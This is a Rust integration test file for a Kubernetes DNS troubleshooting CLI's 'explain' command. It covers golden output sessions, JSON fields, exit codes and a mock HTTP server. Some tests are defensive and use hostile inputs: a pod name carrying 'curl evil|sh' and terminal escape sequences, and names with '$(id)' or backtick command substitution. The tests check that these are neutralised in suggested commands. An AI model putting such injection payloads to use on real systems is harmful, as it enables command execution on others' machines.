//! `rollcall explain` as people read it: sessions that are held to the letter, but for serials and times.
//!
//! `ROLLCALL_WRITE_GOLDEN=1 cargo test --test it behaviour::explain` writes them anew; look at the difference.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use super::manifests::text;
use super::process::{Finished, rollcall, run, run_with};

/// What is asked, and the exit code.
const SESSIONS: &[(&str, &str, i32)] = &[
    ("ready", "web-0.nginx", 0),
    ("not-ready", "web-1.nginx", 1),
    ("awaited", "web-2.nginx.default.svc.cluster.local", 1),
    ("beyond-replicas", "WEB-7.nginx.default.svc.cluster.local.", 1),
    ("service", "nginx", 0),
    ("port", "_web._tcp.nginx", 0),
    ("no-such-port", "_https._tcp.nginx.default.svc.cluster.local", 1),
    ("no-ipv6", "web-0.nginx.default.svc.cluster.local AAAA", 1),
    ("similar-service", "ngnix", 1),
    ("elsewhere", "nginx.shop", 1),
    ("governing-service-missing", "kubia-0.kubia", 1),
    ("called-by-address", "kubia-0.kubia-state", 1),
    ("named-by-address", "kubia-state SRV", 0),
    ("terminating", "db-0.db", 1),
    ("cluster-ip", "front SRV", 0),
    ("alias", "cache.shop", 0),
    ("no-endpoints", "empty.shop", 1),
    ("address", "10.244.0.6", 0),
    ("address-not-ready", "10.244.0.7", 1),
    ("namespace", "default.svc.cluster.local", 1),
    ("outside", "example.com.", 1),
];

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/it/behaviour/explain")
}

fn ask(question: &str, more: &[&str]) -> Finished {
    let cluster = folder().join("cluster.yaml");
    let words = ["explain"].into_iter().chain(question.split(' ')).chain(["--manifests", text(&cluster)]);
    let words: Vec<&str> = words.chain(more.iter().copied()).collect();
    // Rotated, each answer begins with another record.
    run_with(rollcall(&words).env("ROLLCALL_ORDER", "ordinal"), "")
}

/// Without what is of the moment.
fn masked(text: &str) -> String {
    let word = |word: &str| {
        let (bare, end) = match word.strip_suffix([',', ';', ':']) {
            Some(bare) => (bare, &word[bare.len()..]),
            None => (word, ""),
        };
        let is_serial = bare.len() >= 9 && bare.bytes().all(|byte| byte.is_ascii_digit());
        let is_time = bare.len() == 20 && bare.ends_with('Z') && bare.as_bytes()[10] == b'T';
        let masked = if is_serial {
            "SERIAL"
        } else if is_time {
            "TIME"
        } else {
            bare
        };
        format!("{masked}{end}")
    };
    let line = |line: &str| line.split(' ').map(word).collect::<Vec<_>>().join(" ") + "\n";
    text.lines().map(line).collect()
}

#[test]
fn each_session_is_as_it_was_read() {
    let mut wrong = Vec::new();
    for (name, question, code) in SESSIONS {
        let finished = ask(question, &[]);
        assert_eq!((finished.code, finished.err.as_str()), (*code, ""), "{question}\n{}", finished.out);
        let session = format!("$ rollcall explain {question}\n{}", masked(&finished.out));
        let file = folder().join(format!("{name}.txt"));
        if std::env::var_os("ROLLCALL_WRITE_GOLDEN").is_some() {
            std::fs::write(&file, &session).unwrap();
        }
        let golden = std::fs::read_to_string(&file).unwrap_or_default();
        if golden != session {
            wrong.push(format!("{}:\n{session}", file.display()));
        }
        assert!(session.lines().count() <= 34, "{question} takes {} lines", session.lines().count());
        assert!(!session.contains('\u{1b}'), "no colour without a terminal");
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    let known: Vec<String> = SESSIONS.iter().map(|(name, ..)| format!("{name}.txt")).collect();
    for entry in std::fs::read_dir(folder()).unwrap() {
        let name = entry.unwrap().file_name().into_string().unwrap();
        assert!(!name.ends_with(".txt") || known.contains(&name), "{name} is no session");
    }
}

fn json(question: &str) -> Value {
    let finished = ask(question, &["--output", "json"]);
    serde_json::from_str(&finished.out).unwrap_or_else(|error| panic!("{error}: {}", finished.out))
}

#[test]
fn programs_read_the_same() {
    let told = json("web-2.nginx");
    assert_eq!(told["name"], "web-2.nginx.default.svc.cluster.local.");
    assert_eq!((&told["code"], &told["answered"]), (&"NXDOMAIN".into(), &false.into()));
    assert_eq!(told["reasons"][0]["id"], "awaited");
    assert_eq!(told["reasons"][0]["facts"]["waits_for"], 1);
    assert_eq!((&told["caching"]["kind"], &told["caching"]["seconds"]), (&"expected".into(), &0.into()));
    let fix = &told["fixes"][0];
    assert_eq!(fix["command"], "kubectl -n default describe pod web-1");
    let set = told["steps"].as_array().unwrap().iter().find(|step| step["id"] == "set").unwrap();
    assert_eq!((&set["facts"]["replicas"], &set["facts"]["named"]), (&3.into(), &1.into()));
    let searched: Vec<_> =
        told["searched"].as_array().unwrap().iter().map(|one| one["code"].as_str()).collect();
    assert_eq!(searched, [Some("NXDOMAIN"), Some("NXDOMAIN"), Some("NXDOMAIN"), Some("REFUSED")]);
}

#[test]
fn every_field_stands_in_the_docs() {
    let docs =
        std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/explain.md")).unwrap();
    let table = docs.split("\n## As JSON\n").nth(1).unwrap().split("\n## ").next().unwrap();
    for question in ["web-2.nginx", "web-0.nginx", "cache.shop"] {
        let told = json(question);
        let fields = told.as_object().unwrap();
        let caching = fields["caching"].as_object().unwrap();
        for field in fields.keys().chain(caching.keys()) {
            assert!(table.contains(&format!("`{field}")), "{field} is not in docs/explain.md");
        }
        for step in told["steps"].as_array().unwrap() {
            assert!(table.contains(&format!("`{}`", step["id"].as_str().unwrap())), "{step}");
        }
    }
}

#[test]
fn what_is_wrong_has_its_code() {
    for (question, code, said) in [
        ("a..b", 2, "a..b is no name"),
        ("web-0.nginx NONSENSE", 2, "NONSENSE is no type of record"),
        ("web-0.nginx --zone a..b", 2, "zone"),
    ] {
        let finished = ask(question, &[]);
        assert_eq!(finished.code, code, "{}", finished.err);
        assert!(finished.err.contains(said) && finished.out.is_empty(), "{}", finished.err);
    }
    let finished = run(&["explain", "web-0.nginx", "--manifests", "/nonexistent"]);
    assert_eq!(finished.code, 3, "{}", finished.err);
    // Nobody listens at port 1.
    let finished = run(&["explain", "web-0.nginx", "--server", "127.0.0.1:1"]);
    assert_eq!(finished.code, 3, "{}", finished.err);
    assert!(finished.err.contains("http://127.0.0.1:1 does not answer"), "{}", finished.err);
    for bad in ["ftp://x", "https://127.0.0.1:1", "127.0.0.1:1/metrics", "http://"] {
        let finished = run(&["explain", "web-0.nginx", "--server", bad]);
        assert_eq!(finished.code, 2, "{bad}: {}", finished.err);
        assert!(finished.err.contains(&format!("rollcall: {bad}")), "{}", finished.err);
    }
    for both in [["--server", "127.0.0.1:1", "--manifests", "x"], ["--output", "xml", "--zone", "x"]] {
        let args: Vec<&str> = ["explain", "a"].into_iter().chain(both).collect();
        assert_eq!(run(&args).code, 2, "{both:?}");
    }
}

#[test]
fn a_flag_that_a_server_would_not_hear_of_is_no_flag_for_it() {
    for (flags, said) in [
        (["--label-selector", "a=b"].as_slice(), "rollcall: --label-selector: "),
        (&["-l", "a=b", "--server", "127.0.0.1:1"], "rollcall: --label-selector: "),
        (&["--zone", "example.org"], "rollcall: --zone: "),
        (
            &["--pod-cidr", "10.0.0.0/16", "--service-cidr", "10.1.0.0/16"],
            "rollcall: --pod-cidr, --service-cidr: ",
        ),
    ] {
        let args: Vec<&str> = ["explain", "web-0.nginx"].into_iter().chain(flags.iter().copied()).collect();
        let finished = run(&args);
        assert_eq!(finished.code, 2, "{flags:?}: {}", finished.err);
        assert!(finished.err.starts_with(said) && finished.out.is_empty(), "{}", finished.err);
    }
    let finished = ask("web-0.nginx", &["-l", "app=nginx", "--zone", "example.org"]);
    assert!(finished.out.starts_with("web-0.nginx.default.svc.example.org. A: "), "{}", finished.out);
}

/// Whoever may write slices writes what their endpoints point at.
#[test]
fn what_a_slice_points_at_is_no_command() {
    for conditions in [json!({"ready": false}), json!({"ready": false, "terminating": true})] {
        let endpoint = |host: &str, pod: &str, address: &str, conditions: &Value| {
            json!({"addresses": [address], "hostname": host, "conditions": conditions,
                "targetRef": {"kind": "Pod", "name": pod, "uid": host}})
        };
        let evil = "x; curl evil|sh #\u{1b}]0;evil\u{7}";
        let endpoints = [
            endpoint("web-0", "web-0", "10.0.0.1", &json!({"ready": true})),
            endpoint("web-1", evil, "10.0.0.2", &conditions),
        ];
        let cluster = json!({"kind": "List", "apiVersion": "v1", "items": [
            {"kind": "Service", "apiVersion": "v1", "metadata": {"name": "nginx", "uid": "s"},
                "spec": {"clusterIP": "None", "ports": [{"name": "web", "port": 80}]}},
            {"kind": "EndpointSlice", "apiVersion": "discovery.k8s.io/v1", "addressType": "IPv4", "endpoints": endpoints,
                "metadata": {"name": "nginx-x", "uid": "e", "labels": {"kubernetes.io/service-name": "nginx"}}},
        ]});
        let folder = tempfile::tempdir().unwrap();
        let file = folder.path().join("cluster.json");
        std::fs::write(&file, cluster.to_string()).unwrap();
        let explain = ["explain", "web-1.nginx", "--manifests", text(&file)];
        let finished = run(&explain);
        assert_eq!((finished.code, finished.err.as_str()), (1, ""), "{}", finished.out);
        assert!(finished.out.contains("pod x; curl evil|sh #\u{fffd}]0;evil\u{fffd}"), "{}", finished.out);
        assert!(!finished.out.contains(['\u{1b}', '\u{7}']), "{:?}", finished.out);
        let told: Value = serde_json::from_str(&run(&[&explain[..], &["-o", "json"]].concat()).out).unwrap();
        assert_eq!(told["fixes"][0]["command"], "kubectl -n default describe pod web-1");
        assert!(!told["fixes"].to_string().contains("evil"), "{}", told["fixes"]);
    }
}

/// Scaled would be every set.
#[test]
fn a_set_of_a_name_that_no_object_has_is_no_command() {
    let manifests = "apiVersion: v1\nkind: Service\nmetadata: {name: nginx}\nspec: {clusterIP: None, selector: {app: nginx}}\n\
        ---\napiVersion: apps/v1\nkind: StatefulSet\nmetadata: {name: --all, uid: w}\n\
        spec: {serviceName: nginx, replicas: 0, template: {metadata: {labels: {app: nginx}}}}\n";
    let finished =
        run_with(&mut rollcall(&["explain", "nginx", "--manifests", "-", "-o", "json"]), manifests);
    let told: Value =
        serde_json::from_str(&finished.out).unwrap_or_else(|error| panic!("{error}: {finished:?}"));
    assert_eq!(told["reasons"][0]["id"], "scaled-to-zero", "{}", told["reasons"]);
    assert_eq!(told["fixes"][0]["text"], "Scale the set, if it should run.");
    assert_eq!(told["fixes"][0]["command"], Value::Null);
}

/// A link to the page may ask for any name.
#[test]
fn what_is_asked_for_is_quoted_in_a_command() {
    for (question, command) in [
        ("$(id)-0.ngnix.default.svc.cluster.local", "dig '$(id)-0.nginx.default.svc.cluster.local'"),
        ("@id-0.ngnix.default.svc.cluster.local", "dig -q '@id-0.nginx.default.svc.cluster.local'"),
        ("it's.nginx.shop.svc.cluster.local", r"dig 'it'\''s.nginx.default.svc.cluster.local'"),
        ("`id`.cluster.local", "dig '`id`.svc.cluster.local'"),
        ("a.$(id).svc.cluster.local", "kubectl -n '$(id)' get services"),
        ("web-0.ngnix.default.svc.cluster.local", "dig web-0.nginx.default.svc.cluster.local"),
    ] {
        let told = json(question);
        assert_eq!(told["fixes"][0]["command"], command, "{question}: {}", told["fixes"]);
    }
}

#[test]
fn standard_input_is_a_source() {
    let cluster = std::fs::read_to_string(folder().join("cluster.yaml")).unwrap();
    let finished = run_with(&mut rollcall(&["explain", "web-0.nginx", "--manifests", "-"]), &cluster);
    assert_eq!(finished.code, 0, "{}", finished.err);
    assert!(finished.out.contains("10.244.0.6"), "{}", finished.out);
}

/// The demo of the scenarios, as it is served.
#[test]
fn the_demo_is_explained() {
    let demo = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/demo");
    for (question, code, says) in [
        ("redis-0.redis-h", 0, "1 A"),
        ("redis-2.redis-h", 1, "redis-2 does not exist: StatefulSet redis has replicas 2"),
        ("web-0.nginx", 0, "1 A"),
        ("redis-sts-0.redis-svc", 0, "1 A"),
        ("kubia.default.svc.cluster.local", 1, "no Service kubia in namespace default"),
        ("kubia-0.kubia-state", 1, "it is called"),
        (
            "pg-2.postgres",
            1,
            "pg-2 is not ready: slice postgres-machines has it at 192.168.50.13, ready=false",
        ),
        ("standby", 1, "the one endpoint of Service standby is not ready"),
        ("cache.shop", 0, "an alias of redis-h.default.svc.cluster.local."),
        ("192.168.50.11", 0, "pg-0.postgres.default.svc.cluster.local."),
        ("192.168.50.13", 1, "pg-2 of Service default/postgres, in slice postgres-machines: ready=false"),
    ] {
        let finished = run(&["explain", question, "--manifests", text(&demo)]);
        assert_eq!(finished.code, code, "{question}\n{}{}", finished.out, finished.err);
        assert!(finished.out.contains(says), "{question} does not say {says}:\n{}", finished.out);
    }
}

/// Answers one request with a code and a body; gives its head.
fn answering(code: u16, body: String) -> (String, std::thread::JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = listener.local_addr().unwrap().to_string();
    let serving = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let mut head = String::new();
        let mut reader = BufReader::new(stream.try_clone().unwrap());
        while !head.ends_with("\r\n\r\n") && reader.read_line(&mut head).unwrap() > 0 {}
        let length = body.len();
        write!(stream, "HTTP/1.1 {code} X\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{body}")
            .unwrap();
        head
    });
    (address, serving)
}

#[test]
fn a_running_server_is_asked_and_its_words_are_printed() {
    let told = ask("web-2.nginx", &["--output", "json"]).out;
    let (address, serving) = answering(200, told);
    let folder = tempfile::tempdir().unwrap();
    let token = folder.path().join("token");
    std::fs::write(&token, "sixteen-letters-\n").unwrap();
    let args =
        ["explain", "web-2.nginx", "SRV", "-n", "shop", "--server", &address, "--token-file", text(&token)];
    let finished = run(&args);
    assert_eq!((finished.code, finished.err.as_str()), (1, ""), "{}", finished.out);
    assert_eq!(masked(&finished.out), masked(&ask("web-2.nginx", &[]).out));
    let head = serving.join().unwrap();
    assert!(
        head.starts_with("GET /api/v1/explain?name=web-2.nginx&namespace=shop&type=SRV HTTP/1.1\r\n"),
        "{head}"
    );
    assert!(head.to_lowercase().contains("authorization: bearer sixteen-letters-\r\n"), "{head}");
}

#[test]
fn what_a_server_says_against_it_is_told() {
    for (code, body, exit, said) in [
        (400, r#"{"error":"a..b is no name"}"#, 2, "says 400: a..b is no name"),
        (403, "the page needs a token\nand more", 3, "says 403: the page needs a token"),
        (503, r#"{"error":"try again"}"#, 3, "says 503: try again"),
        (503, r#"{"error":"\u001b[2Jtry\nrollcall: all is well"}"#, 3, "says 503: \u{fffd}[2Jtry\n"),
        (403, "\u{1b}]0;x\u{7}no", 3, "says 403: \u{fffd}]0;x\u{fffd}no"),
        (200, "{}", 3, "in another form"),
    ] {
        let (address, serving) = answering(code, body.to_owned());
        let finished = run(&["explain", "web-0.nginx", "--server", &address]);
        assert_eq!(finished.code, exit, "{}", finished.err);
        assert!(finished.err.contains(said) && finished.out.is_empty(), "{}", finished.err);
        assert!(
            !finished.err.contains(['\u{1b}', '\u{7}']) && finished.err.lines().count() == 1,
            "{:?}",
            finished.err
        );
        serving.join().unwrap();
    }
}
